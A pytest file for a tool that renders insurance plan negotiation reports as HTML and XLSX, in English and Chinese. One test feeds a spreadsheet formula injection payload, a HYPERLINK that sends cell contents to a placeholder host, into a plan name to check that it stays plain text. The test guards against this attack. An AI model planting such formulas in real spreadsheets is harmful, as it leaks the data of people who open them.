"""The negotiation report: every number is the evaluator's; self-contained; renders in
headless Chromium, in Chinese too."""

from __future__ import annotations

import html.parser
import json
import re
import shutil
import subprocess
import zipfile

import numpy as np
import openpyxl
import pytest
from typer.testing import CliRunner

from forecasting.data.publish import write_manifest
from forecasting.forecast import Forecast
from forecasting.scheme.in_force import plan_from_dict
from optimization.evaluate import evaluate_plan
from optimization.solve import scenario_set
from optimization.space import load_space
from pipelines.cli import app
from pipelines.report.document import money

runner = CliRunner()
KPI_ROWS = ("premium_per_capita", "premium_income", "expected_payout", "operating_cost",
            "expected_loss", "loss_p05", "loss_ratio", "effective_ratio", "prob_loss",
            "cvar95_loss")


class Cells(html.parser.HTMLParser):
    """Rows of the table in <section id=...>: [label, data-values...] per row."""

    def __init__(self, section: str):
        super().__init__()
        self.section, self.inside, self.rows, self.texts = section, False, [], []
        self._row = None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "section":
            self.inside = attrs.get("id") == self.section
        if self.inside and tag == "tr":
            self._row = []
        if self.inside and tag == "td" and self._row is not None:
            self._row.append(float(attrs["data-value"]))

    def handle_endtag(self, tag):
        if self.inside and tag == "tr" and self._row:
            self.rows.append(self._row)
            self._row = None

    def handle_data(self, data):
        if self.inside:
            self.texts.append(data)


@pytest.fixture(scope="session")
def plan_dirs(forecast_dir, tmp_path_factory):
    root = tmp_path_factory.mktemp("plans")
    dirs = []
    for objective in ("min-loss", "break-even"):
        out = root / objective
        result = runner.invoke(app, ["optimize", "--forecast", str(forecast_dir),
                                     "--objective", objective, "--out", str(out),
                                     "--frontier-points", "4"])
        assert result.exit_code == 0, result.output
        dirs.append(out)
    return dirs


@pytest.fixture(scope="session", params=["en", "zh"])
def report(request, plan_dirs, tmp_path_factory):
    out = tmp_path_factory.mktemp(f"report-{request.param}") / "report"
    args = ["report", "--out", str(out), "--lang", request.param]
    for d in plan_dirs:
        args += ["--plans", str(d)]
    result = runner.invoke(app, args)
    assert result.exit_code == 0, result.output
    return request.param, out


def _expected(plan_dirs, forecast_dir):
    """The evaluator's KPIs for today's plan and each proposal, recomputed here."""
    fc = Forecast.load(forecast_dir)
    space = load_space()
    docs = [json.loads((d / "plan.json").read_text()) for d in plan_dirs]
    sq = plan_from_dict("sq", docs[0]["status_quo"]["plan"])
    sc = scenario_set(fc, space, sq)
    plans = [sq, *(plan_from_dict("p", d["plan"]) for d in docs)]
    return [evaluate_plan(p, fc, space.costs, sc) for p in plans]


def test_every_kpi_in_html_and_xlsx_is_the_evaluators(report, plan_dirs, forecast_dir):
    _lang, out = report
    expected = _expected(plan_dirs, forecast_dir)
    parser = Cells("kpis")
    page = (out / "report.html").read_text(encoding="utf-8")
    parser.feed(page)
    assert len(parser.rows) == len(KPI_ROWS)
    for name, values in zip(KPI_ROWS, parser.rows, strict=True):
        want = [getattr(k, name) for k in expected]
        np.testing.assert_allclose(values, want, rtol=1e-9, err_msg=name)
    # the figures people read are the same numbers, formatted
    for k in expected:
        assert money(k.expected_loss) in page and money(k.expected_payout) in page
    sheet = openpyxl.load_workbook(out / "report.xlsx")["KPIs"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    for name, row in zip(KPI_ROWS, rows, strict=True):
        np.testing.assert_allclose([float(v) for v in row[1:]],
                                   [getattr(k, name) for k in expected], rtol=1e-9)
    member = Cells("member")
    member.feed(page)
    for row_values, level in zip(member.rows, (20_000, 50_000, 100_000, 200_000, 500_000),
                                 strict=True):
        np.testing.assert_allclose(row_values,
                                   [k.payout_at[f"{level:g}"] for k in expected], rtol=1e-12)


def test_html_is_self_contained(report):
    page = (report[1] / "report.html").read_text(encoding="utf-8")
    assert not re.search(r"""(src|href)\s*=\s*["']?\s*(https?:)?//""", page)
    assert "<script" not in page and "<link" not in page and "<svg" in page


def test_chinese_report_is_in_chinese(report):
    lang, out = report
    page = (out / "report.html").read_text(encoding="utf-8")
    if lang == "zh":
        assert "城乡居民大病保险" in page and "预期亏损" in page and 'lang="zh-CN"' in page
    else:
        assert not re.search(r"[\u4e00-\u9fff]", page)


def _chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser")


HEADLESS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync",
            "--enable-logging=stderr", "--v=0"]


def test_report_renders_in_headless_chromium(report, plan_dirs, forecast_dir, tmp_path):
    browser = _chromium()
    if browser is None:
        pytest.skip("Chromium is not installed: `apt-get install chromium` (.ci/run does)")
    lang, out = report
    url = (out / "report.html").resolve().as_uri()
    flags = [browser, *HEADLESS, f"--user-data-dir={tmp_path / 'profile'}"]
    dom = subprocess.run([*flags, "--dump-dom", url], capture_output=True, text=True,
                         timeout=120)
    assert dom.returncode == 0, dom.stderr[-2000:]
    assert "CONSOLE" not in dom.stderr, dom.stderr  # no script or console errors
    expected = _expected(plan_dirs, forecast_dir)
    assert money(expected[0].expected_loss) in dom.stdout
    if lang == "zh":
        assert "关键指标" in dom.stdout
    shot = tmp_path / "page.png"
    result = subprocess.run([*flags, "--window-size=1000,1400", f"--screenshot={shot}", url],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0 and shot.exists(), result.stderr[-2000:]
    from PIL import Image

    pixels = np.asarray(Image.open(shot).convert("L"), dtype=float)
    assert pixels.std() > 10  # not a blank page
    assert (pixels < 128).mean() > 0.005  # there is dark text on it


def test_report_refuses_a_folder_without_plan(tmp_path):
    result = runner.invoke(app, ["report", "--plans", str(tmp_path), "--out",
                                 str(tmp_path / "r")])
    assert result.exit_code == 2
    assert "no manifest.json; expected a complete `ciplan optimize` output" in result.stderr
    assert not (tmp_path / "r").exists()


def test_text_that_looks_like_a_formula_stays_text(plan_dirs, tmp_path):
    """A name in a plan file starting with '=' (from a file sent by the other side) is a
    text cell in the XLSX, never a formula Excel would run."""
    folder = shutil.copytree(plan_dirs[0], tmp_path / "A")
    doc = json.loads((folder / "plan.json").read_text())
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    doc["shadow_prices"][0]["constraint"] = formula
    (folder / "plan.json").write_text(json.dumps(doc))
    write_manifest(folder, "plan", {})
    out = tmp_path / "report"
    result = runner.invoke(app, ["report", "--plans", str(folder), "--out", str(out)])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out / "report.xlsx") as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)
    values = [c for row in openpyxl.load_workbook(out / "report.xlsx")["Shadow"].values
              for c in row]
    assert formula in values


def test_report_on_plans_of_another_store_writes_and_says_so(plan_dirs, tmp_path,
                                                              monkeypatch):
    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path / 'other.db'}")
    out = tmp_path / "report"
    result = runner.invoke(app, ["report", "--plans", str(plan_dirs[0]), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert (out / "report.html").exists() and (out / "report.xlsx").exists()
    assert "Not logged to MLflow: the runs of plans A are not in the store" in result.stdout
